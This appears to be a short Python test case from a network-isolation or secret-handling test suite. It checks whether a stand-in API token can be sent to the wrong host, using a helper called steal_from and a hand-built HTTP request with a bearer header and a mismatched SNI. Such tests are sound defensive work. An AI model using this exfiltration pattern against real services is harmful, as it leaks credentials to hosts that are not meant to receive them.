# tries: send the stand-in of a secret to another host that is granted
# effect: server-saw-secret
from reach import TOKEN, V, address, steal_from

steal_from(address("wrong.test"), V["api"], b"GET / HTTP/1.1\r\nHost: wrong.test\r\nAuthorization: Bearer %s\r\n\r\n" % TOKEN.encode(),
           tls=True, sni="wrong.test")
